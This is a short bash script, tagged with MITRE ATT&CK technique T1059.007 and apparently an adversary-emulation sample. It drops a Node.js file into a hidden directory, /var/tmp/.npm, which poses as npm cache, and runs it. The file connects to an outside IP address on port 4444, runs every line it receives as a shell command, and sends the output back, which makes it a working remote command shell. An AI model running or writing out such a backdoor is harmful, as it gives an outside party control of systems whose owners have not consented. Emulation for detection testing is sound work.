#!/bin/bash
# T1059.007: A script for node in a hidden place asks for orders and runs them.
mkdir -p /var/tmp/.npm; cat >/var/tmp/.npm/i.js <<'J'
const n=require('net'),c=require('child_process');const s=n.connect(4444,'44.128.66.66',()=>s.on('data',d=>String(d).split('\n').filter(x=>x&&x!='exit').forEach(x=>s.write(c.execSync(x)))));setTimeout(()=>process.exit(),800)
J
node /var/tmp/.npm/i.js
